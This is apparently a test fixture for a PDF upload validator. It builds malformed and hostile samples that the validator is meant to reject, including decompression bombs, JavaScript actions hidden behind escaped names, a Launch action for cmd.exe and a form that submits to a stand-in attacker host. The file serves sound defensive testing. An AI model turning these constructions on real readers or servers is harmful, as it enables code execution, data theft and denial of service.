import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import type { ProblemCode } from '../../src/contract/problem.ts';
import { makePdf } from '../shop/pdfs.ts';
import {
  ONE_PAGE,
  type RawObject,
  packed,
  rawPdf,
  withCatalog,
  withPage,
  withPicture,
} from './raw-pdf.ts';

type Bytes = Uint8Array<ArrayBuffer>;
type Make = () => Promise<Bytes> | Bytes;

export type BadFile = {
  readonly what: string;
  readonly code: ProblemCode;
  readonly says: string;
  readonly bytes: Make;
};

const MEBIBYTE = 1024 * 1024;
const text = (words: string): Bytes => new Uint8Array(Buffer.from(words, 'latin1'));

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const ADDRESS = '<< /S /URI /URI (https://x.example) >>';
const ATTACHED = '<< /Type /Filespec /F (a.txt) /EF << /F 5 0 R >> >>';

const annotation = (entries: string): RawObject[] =>
  withPage('/Annots [4 0 R]', `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`);
const onLink = (action: string) => annotation(`/Subtype /Link /A ${action}`);
const onOpening = (action: string, ...more: RawObject[]) =>
  withCatalog(`/OpenAction ${action}`, ...more);
const goingOn = (action: string) => `<< /S /GoTo /D [3 0 R /Fit] /Next ${action} >>`;
const named = (what: string, ...objects: RawObject[]) =>
  withCatalog(`/Names << /${what} << /Names [(a) 4 0 R] >> >>`, ...objects);

const ACTIVE: Readonly<Record<string, Readonly<Record<string, readonly RawObject[]>>>> = {
  JavaScript: {
    'a script that runs when it opens': onOpening(SCRIPT),
    'a script among its names': named('JavaScript', SCRIPT),
    'a script on a link': onLink(SCRIPT),
    'a script behind a harmless action': onOpening(goingOn('[4 0 R]'), SCRIPT),
    'a script under an escaped name': onOpening('<< /S /J#61va#53cript /#4a#53 (x) >>'),
  },
  'starts a program': { 'a program': onLink('<< /S /Launch /F (cmd.exe) >>') },
  'sends what is typed': { 'a form': onOpening('<< /S /SubmitForm /F (https://evil.example) >>') },
  'a form that is a program': {
    XFA: withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', packed('<xdp/>')),
  },
  'reads files': { 'data to import': onOpening('<< /S /ImportData /F (a.fdf) >>') },
  'attached file': { 'a link into an attachment': onOpening('<< /S /GoToE >>') },
  'other files attached': {
    'a file among its names': named('EmbeddedFiles', ATTACHED, packed('a', '/Type /EmbeddedFile')),
    'a file on a page': annotation('/Subtype /FileAttachment'),
  },
  multimedia: Object.fromEntries([
    ...['RichMedia', 'Movie', 'Sound', 'Screen', '3D'].map(
      (kind) => [`a ${kind}`, annotation(`/Subtype /${kind}`)] as const,
    ),
    ...['Movie', 'Sound', 'Rendition'].map(
      (kind) => [`a link that plays a ${kind}`, onLink(`<< /S /${kind} >>`)] as const,
    ),
  ]),
  'on its own': {
    'a script that runs when it is printed': withCatalog(`/AA << /WP ${SCRIPT} >>`),
    'an address to open': onOpening(ADDRESS),
    'an address that is referred to': onOpening('4 0 R', ADDRESS),
    'an address behind a place to begin at': onOpening(goingOn(ADDRESS)),
    'an address to open with a page': withPage(`/AA << /O ${ADDRESS} >>`),
  },
};

/** As LibreOffice writes the document that a hybrid PDF was made of. */
const HYBRID = rawPdf([...ONE_PAGE, packed('mimetype', '/Type /OpenDocument')], {
  trailer: '/AdditionalStreams [/application#2Fvnd#2Eoasis#2Eopendocument#2Etext 4 0 R]',
});

const bad = (code: ProblemCode, says: string, files: Readonly<Record<string, Make>>): BadFile[] =>
  Object.entries(files).map(([what, bytes]) => ({ what, code, says, bytes }));

export const BOMBS: readonly BadFile[] = bad('pdf_too_dense', 'with smaller images, or in parts.', {
  'a picture of 20,000 by 20,000': () => rawPdf(withPicture(20_000, 20_000, 'x')),
  'a page of 1200 MB in two layers': () => {
    const data = deflateSync(deflateSync(Buffer.alloc(100 * MEBIBYTE, ' ')));
    const dict = '/Filter [/FlateDecode /FlateDecode]';
    const layers = Array.from({ length: 12 }, () => ({ dict, data }));
    const contents = layers.map((_, index) => `${index + 4} 0 R`).join(' ');
    return rawPdf(withPage(`/Contents [${contents}]`, ...layers));
  },
});

const tree =
  (...objects: RawObject[]) =>
  () =>
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...objects]);
const PAGE = ONE_PAGE[2];

const manyPages = (count: number): RawObject[] => {
  const kids = Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ');
  return [`<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, ...Array<string>(count).fill(PAGE)];
};

const cut = (share: number, isPacked: boolean) => async () => {
  const bytes = await makePdf({ pages: 20, packed: isPacked });
  return bytes.slice(0, Math.floor(share * bytes.byteLength));
};

/** Every kind of file that no buyer may ever get, and why; the bombs apart. */
export const BAD_FILES: readonly BadFile[] = [
  ...bad('file_not_pdf', 'Please upload a PDF file.', { 'a renamed PNG': () => text('\x89PNG 7') }),
  ...bad('file_empty', 'empty', { 'an empty file': () => new Uint8Array() }),
  ...bad('file_too_large', 'MB', { 'a file of 19 MB': () => new Uint8Array(19 * MEBIBYTE) }),
  ...bad('pdf_broken', 'export it again', {
    'an HTML page with header and end of a PDF': () =>
      text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF'),
    'a PDF cut off at 30 %': cut(0.3, true),
    'a PDF cut off at 99 %': cut(0.99, false),
    'a PDF without pages': tree('<< /Type /Pages /Kids [] /Count 0 >>'),
    'a PDF whose pages go round in a circle': tree('<< /Type /Pages /Kids [2 0 R] >>'),
  }),
  ...bad('pdf_broken', 'end of the PDF is missing', {
    'a PDF cut off in what was added to it': async () => {
      const bytes = await makePdf({ packed: false });
      const document = await PDFDocument.load(bytes, { forIncrementalUpdate: true });
      for (let page = 0; page < 20; page += 1) document.addPage();
      return new Uint8Array(await document.save({ useObjectStreams: false })).slice(0, -500);
    },
  }),
  ...bad('pdf_broken', 'Page 2', {
    'a PDF of fewer pages than it says': tree('<< /Type /Pages /Kids [3 0 R] /Count 2 >>', PAGE),
  }),
  ...bad('pdf_encrypted', 'protected', {
    'an encrypted PDF': () =>
      makePdf({}, (document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
    'a PDF that only its owner may change': () =>
      makePdf({ packed: false }, (document) => document.encrypt({ ownerPassword: 'b' })),
  }),
  ...bad('pdf_too_many_pages', '501 pages', { 'a PDF of 501 pages': tree(...manyPages(501)) }),
  ...bad('pdf_active_content', 'JavaScript', {
    'a PDF with a script that is packed away': () =>
      makePdf({}, (document) => document.addJavaScript('greet', 'app.alert(1)')),
  }),
  ...Object.entries(ACTIVE).flatMap(([says, files]) =>
    Object.entries(files).flatMap(([what, objects]) =>
      bad('pdf_active_content', says, { [`a PDF with ${what}`]: () => rawPdf(objects) }),
    ),
  ),
  ...bad('pdf_active_content', 'other files attached', { 'a hybrid PDF': () => HYBRID }),
];
